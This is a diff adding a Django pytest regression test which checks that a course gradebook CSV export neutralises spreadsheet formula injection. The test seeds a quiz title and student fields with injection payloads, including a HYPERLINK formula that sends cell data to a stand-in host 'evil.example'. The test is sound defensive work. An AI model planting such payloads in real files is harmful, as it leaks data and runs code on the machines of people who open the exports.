@@ -5,9 +5,11 @@ from __future__ import annotations
 import pytest
 
 from courseware.models import User
+from quizzes.models import Quiz
 from quizzes.services.attempts import attempt_submit, response_save
 from quizzes.services.grading import attempt_grade
 from tests.api.conftest import World, token_client
+from tests.factories import QuizFactory
 
 pytestmark = pytest.mark.django_db
 
@@ -46,3 +48,22 @@ def test_item_statistics_count_the_options_chosen(graded: World, instructor: Use
     assert [s["question_id"] for s in stats] == [graded.question.pk]
     chosen = {o["option"]: o["count"] for o in stats[0]["options"]}
     assert chosen["c1"] == 1
+
+
+def test_the_csv_export_escapes_every_cell_a_spreadsheet_would_run_as_a_formula(graded: World, instructor: User, student: User) -> None:
+    """F14: quiz titles (the header) and emails went out unescaped, and a leading tab or CR was missed."""
+    import csv
+    import io
+
+    Quiz.objects.filter(pk=graded.quiz.pk).update(title='=HYPERLINK("https://evil.example/?"&A2,"Click")')
+    QuizFactory(module=graded.module, title="\t=1+1")
+    User.objects.filter(pk=student.pk).update(email="@SUM(1+1)@example.org", first_name="\r=cmd", last_name="-2+3")
+
+    response = token_client(instructor).get(f"/api/courses/{graded.course.pk}/gradebook.csv")
+
+    header, *rows = list(csv.reader(io.StringIO(response.content.decode())))
+    row = next(r for r in rows if r[0] == student.username)
+    cells = [*header, *row]
+    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
+    assert '\'=HYPERLINK("https://evil.example/?"&A2,"Click")' in header
+    assert row[1:4] == ["'\r=cmd", "'-2+3", "'@SUM(1+1)@example.org"]
